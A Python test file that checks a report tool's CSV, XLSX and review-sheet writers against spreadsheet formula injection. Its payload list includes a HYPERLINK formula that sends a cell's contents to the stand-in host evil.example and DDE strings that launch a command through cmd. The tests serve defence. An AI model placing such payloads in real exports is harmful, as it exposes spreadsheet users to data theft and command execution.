"""Hostile sources and inputs (issue 15): every cap holds, nothing is silently dropped.

Each test drives the real part (the fixture site on 127.0.0.1, a real SQLite file, the real
CLI, the real report writers) and asserts on what a user would see: the outcome, its reason,
the wall time against the cap.
"""
from __future__ import annotations

import csv
import io

from sourcecheckup.report import write_report
from sourcecheckup.store import Store
from tests.support.synth_run import synthesize_run

# -------------------------------------------------------------- 7. CSV formula injection

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _formula_run(tmp_path) -> tuple[Store, str]:
    store = Store(tmp_path / "f.db")
    run_id = synthesize_run(store, responses=1, statements=len(FORMULAS), sources=1)
    with store.db.conn:
        for i, text in enumerate(FORMULAS):
            store.db.execute("UPDATE statements SET text = ? WHERE run_id = ? AND ord = ?", [text, run_id, i])
        store.db.execute("UPDATE verdicts SET rationale = ? WHERE run_id = ?", [FORMULAS[0], run_id])
        store.db.execute("UPDATE responses SET question = ?, model = ? WHERE run_id = ?",
                         [FORMULAS[1], FORMULAS[3], run_id])
    return store, run_id


def test_csv_and_xlsx_reports_keep_every_formula_as_text(tmp_path):
    from openpyxl import load_workbook

    store, run_id = _formula_run(tmp_path)
    rows = list(csv.reader(io.StringIO(write_report(store, run_id, tmp_path / "r.csv").read_bytes().decode("utf-8"),
                                       newline="")))
    cells = [c for row in rows for c in row]
    for text in FORMULAS:
        assert "'" + text in cells, text          # shown as text by a spreadsheet, the words kept
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or
                (c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit())]
    wb = load_workbook(write_report(store, run_id, tmp_path / "r.xlsx"))
    texts = {c.value: c.data_type for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str)}
    for text in FORMULAS:
        assert texts.get(text.replace("\r", "")) == "s" or texts.get(text) == "s", text


def test_review_sheet_csv_keeps_formulas_as_text(tmp_path):
    from sourcecheckup.review_sample import draw_sample, write_sample_csv

    store, run_id = _formula_run(tmp_path)
    pairs = draw_sample(store, run_id, 6, seed=1)
    out = tmp_path / "sheet.csv"
    write_sample_csv(pairs, out)
    cells = [c for row in csv.reader(out.open(encoding="utf-8", newline="")) for c in row]
    assert any(c.startswith("'=") or c.startswith("'+") or c.startswith("'@") for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
